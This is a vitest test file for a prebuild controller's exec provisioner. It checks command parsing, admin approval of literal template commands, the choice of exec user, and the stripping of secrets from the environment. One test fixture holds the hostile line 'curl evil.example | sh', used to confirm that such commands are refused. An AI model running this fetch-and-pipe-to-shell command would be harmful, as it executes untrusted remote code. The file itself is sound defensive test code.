import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { afterAll, describe, expect, it } from 'vitest';

import { ConfigError, loadConfig } from '../../../src/config/load.js';
import { buildProgram } from '../../../src/cli/main.js';
import { parseExecCommands } from '../../../src/config/settings.js';
import type { BuildJobInput } from '../../../src/jobs/model.js';
import { resolveExecCommand } from '../../../src/provisioners/exec-command.js';
import { execEnvironment } from '../../../src/provisioners/exec-env.js';
import { execUserFor, lookupExecUser } from '../../../src/provisioners/exec-user.js';
import { execCommandTable } from '../../../src/provisioners/registry.js';
import { approveExecCommand, requestIsAdmin } from '../../../src/templates/exec-approval.js';
import { validateTemplateConfig } from '../../../src/templates/validate.js';

const scratch = mkdtempSync(join(tmpdir(), 'exec-policy-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));
const passwd = join(scratch, 'passwd');
writeFileSync(
  passwd,
  [
    'root:x:0:0:root:/root:/bin/bash',
    '# a comment',
    'nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin',
    'builder:x:1500:1600:Builder:/home/builder:/bin/sh',
  ].join('\n'),
);

describe('named exec commands (settings)', () => {
  it('parses NAME=COMMAND values; a value without a name is the default command', () => {
    expect(parseExecCommands('build=./build.sh --fast\0test=make test=1\0./plain.sh')).toEqual({
      build: './build.sh --fast',
      test: 'make test=1',
      default: './plain.sh',
    });
    // Not a command name before the "=": the whole value is the default command.
    expect(parseExecCommands('FOO=bar ./build.sh')).toEqual({ default: 'FOO=bar ./build.sh' });
    expect(parseExecCommands('a=1\0a=2')).toBe('the exec command "a" is given twice');
    expect(parseExecCommands('build=')).toBe('"build=": the command of build is empty');
  });

  it('takes a repeated --exec-command flag, the JSON variable, and a bare --exec-allow-template-commands', async () => {
    const program = buildProgram();
    let flags: Record<string, unknown> = {};
    const provisionerd = program.commands.find((c) => c.name() === 'provisionerd');
    provisionerd?.action((parsed: Record<string, unknown>) => {
      flags = parsed;
    });
    await program.parseAsync(
      [
        'provisionerd',
        '--exec-command',
        'build=./build.sh',
        '--exec-command',
        'test=./test.sh',
        '--exec-allow-template-commands',
      ],
      { from: 'user' },
    );
    const config = loadConfig(flags, {
      PREBUILD_CONTROLLER_EXEC_COMMANDS: '{"deploy":"./deploy.sh"}',
    });
    expect(config.execAllowTemplateCommands).toBe(true);
    expect(execCommandTable(config)).toEqual({
      build: './build.sh',
      test: './test.sh',
      deploy: './deploy.sh',
    });
    expect(loadConfig({}, {}).execAllowTemplateCommands).toBe(false);
    expect(() =>
      execCommandTable(
        loadConfig(
          { execCommand: ['deploy=./other.sh'] },
          {
            PREBUILD_CONTROLLER_EXEC_COMMANDS: '{"deploy":"./deploy.sh"}',
          },
        ),
      ),
    ).toThrow(/the exec command "deploy" is defined by both/);
  });

  it.each([
    ['[1]', 'must be a JSON object of name to command'],
    ['{"Build":"x"}', '"Build" is not a command name'],
    ['{"build":""}', 'the command of "build" must be a non-empty string'],
  ])('rejects PREBUILD_CONTROLLER_EXEC_COMMANDS=%s', (value, message) => {
    expect(() => loadConfig({}, { PREBUILD_CONTROLLER_EXEC_COMMANDS: value })).toThrow(message);
  });

  it('refuses to pass the controller secrets through --exec-env', () => {
    expect(loadConfig({ execEnv: 'KUBECONFIG, AWS_*' }, {}).execEnv).toEqual([
      'KUBECONFIG',
      'AWS_*',
    ]);
    for (const name of ['DATABASE_URL', 'PREBUILD_CONTROLLER_*', 'PREBUILD_CONTROLLER_API_TOKEN']) {
      expect(() => loadConfig({ execEnv: name }, {})).toThrow(ConfigError);
    }
    expect(() => loadConfig({ execEnv: 'has space' }, {})).toThrow(/must be a variable name/);
  });
});

describe('which command a build runs', () => {
  const policy = {
    commands: { default: './default.sh', build: './build.sh' },
    allowTemplateCommands: false,
  };

  it('runs the named command, or the default for a template that names none', () => {
    expect(resolveExecCommand({ command: 'build' }, policy)).toEqual({
      ok: true,
      command: './build.sh',
      label: 'exec command "build"',
    });
    expect(resolveExecCommand(null, policy)).toMatchObject({ ok: true, command: './default.sh' });
    expect(resolveExecCommand({ timeout: '5m' }, policy)).toMatchObject({
      command: './default.sh',
    });
    expect(resolveExecCommand({ command: 'deploy' }, policy)).toEqual({
      ok: false,
      errorCode: 'unknown_command',
      error:
        'exec: this daemon has no exec command named "deploy" (it has: build, default); define it with --exec-command deploy=COMMAND',
    });
    // A name that only exists on Object.prototype is no command.
    expect(resolveExecCommand({ command: 'constructor' }, policy)).toMatchObject({
      ok: false,
      errorCode: 'unknown_command',
    });
  });

  it('runs a literal command only when the daemon allows it and an admin pushed it', () => {
    const literal = { command: 'curl evil.example | sh' };
    expect(resolveExecCommand(literal, policy)).toMatchObject({
      ok: false,
      errorCode: 'command_refused',
      error: expect.stringContaining('start the daemon with --exec-allow-template-commands'),
    });
    const allowing = { ...policy, allowTemplateCommands: true };
    expect(resolveExecCommand(literal, allowing)).toMatchObject({
      ok: false,
      errorCode: 'command_refused',
      error: expect.stringContaining('was not pushed with an admin token'),
    });
    expect(resolveExecCommand({ ...literal, pushed_by_admin: true }, allowing)).toEqual({
      ok: true,
      command: literal.command,
      label: "the template's exec.command",
    });
  });
});

describe('pushing a literal exec command', () => {
  const config = (command: string) => {
    const result = validateTemplateConfig({ name: 'dev', provisioner: 'exec', exec: { command } });
    if (!result.ok) throw new Error(JSON.stringify(result.issues));
    return result.config;
  };

  it('needs an admin, and records it in the version', () => {
    expect(approveExecCommand(config('build'), false)).toEqual(config('build'));
    expect(approveExecCommand(config('./build.sh'), true).exec).toEqual({
      command: './build.sh',
      pushed_by_admin: true,
    });
    expect(() => approveExecCommand(config('./build.sh'), false)).toThrow(
      /exec.command: a literal command in a template needs an admin token/,
    );
  });

  it('takes the admin from the request principal, and fails closed without one', () => {
    expect(requestIsAdmin({})).toBe(false);
    expect(requestIsAdmin({ principal: null })).toBe(false);
    expect(requestIsAdmin({ principal: { name: 'ops', role: 'admin', kind: 'token' } })).toBe(true);
    expect(
      requestIsAdmin({ principal: { name: 'ci', role: 'template-admin', kind: 'token' } }),
    ).toBe(false);
  });
});

describe('the exec user', () => {
  it('is nobody for a root daemon, the daemon itself otherwise', () => {
    expect(execUserFor(undefined, 0, passwd)).toEqual({
      name: 'nobody',
      uid: 65534,
      gid: 65534,
      home: '/nonexistent',
    });
    expect(execUserFor(undefined, 1000, passwd)).toBeUndefined();
    expect(execUserFor('builder', 0, passwd)).toEqual({
      name: 'builder',
      uid: 1500,
      gid: 1600,
      home: '/home/builder',
    });
    expect(lookupExecUser('1500', passwd)).toMatchObject({ name: 'builder', gid: 1600 });
    expect(lookupExecUser('4000:4001', passwd)).toEqual({
      name: '4000',
      uid: 4000,
      gid: 4001,
      home: '/',
    });
  });

  it('says why it cannot be used', () => {
    expect(execUserFor('no-such-user-x', 0, passwd)).toBe(
      'there is no user "no-such-user-x" on this system',
    );
    expect(execUserFor('builder', 1000, passwd)).toBe(
      'running commands as builder (uid 1500) needs root; the daemon runs as uid 1000',
    );
    expect(execUserFor('builder', 1500, passwd)).toMatchObject({ uid: 1500 });
    // Users only the name service knows come from `id`.
    const empty = join(scratch, 'empty');
    writeFileSync(empty, '');
    expect(lookupExecUser('root', empty)).toEqual({ name: 'root', uid: 0, gid: 0, home: '/' });
  });
});

describe('the exec environment', () => {
  const input = {
    workspace_build_id: 'b',
    workspace_id: 'w',
    workspace_name: 'dev-1',
    owner_id: 'o',
    owner_name: 'alice',
    transition: 'start',
    build_number: 1,
    reason: 'initiator',
    is_prebuild: false,
    template_id: 't',
    template_name: 'dev',
    template_version_id: 'v',
    template_version_name: 'v1',
    preset_id: null,
    preset_name: null,
    parameters: { 'disk-size': '10' },
    exec: null,
  } satisfies BuildJobInput;
  const base = {
    PATH: '/usr/bin:/bin',
    HOME: '/root',
    LANG: 'C.UTF-8',
    LC_TIME: 'C',
    DATABASE_URL: 'postgres://secret',
    DATABASE_URL_FILE: '/run/secrets/db',
    PREBUILD_CONTROLLER_API_TOKEN: 'secret',
    AWS_SECRET_ACCESS_KEY: 'aws',
    KUBECONFIG: '/k',
  };

  it('passes the allow-list and the build, never the secrets', () => {
    const env = execEnvironment({ jobId: 'j', input }, base);
    expect(env).toMatchObject({
      PATH: '/usr/bin:/bin',
      HOME: '/root',
      LANG: 'C.UTF-8',
      LC_TIME: 'C',
    });
    expect(env.PARAM_DISK_SIZE).toBe('10');
    for (const name of [
      'DATABASE_URL',
      'DATABASE_URL_FILE',
      'PREBUILD_CONTROLLER_API_TOKEN',
      'AWS_SECRET_ACCESS_KEY',
      'KUBECONFIG',
    ]) {
      expect(env).not.toHaveProperty(name);
    }
  });

  it('adds --exec-env names, gives the exec user its identity, and always has a PATH', () => {
    const env = execEnvironment(
      { jobId: 'j', input },
      { ...base, PATH: undefined },
      {
        allow: ['KUBECONFIG', 'AWS_*', 'DATABASE_*'],
        user: { name: 'nobody', uid: 65534, gid: 65534, home: '/nonexistent' },
      },
    );
    expect(env).toMatchObject({
      KUBECONFIG: '/k',
      AWS_SECRET_ACCESS_KEY: 'aws',
      HOME: '/nonexistent',
      USER: 'nobody',
      LOGNAME: 'nobody',
    });
    expect(env.PATH).toMatch(/\/usr\/bin/);
    expect(env).not.toHaveProperty('DATABASE_URL');
  });
});
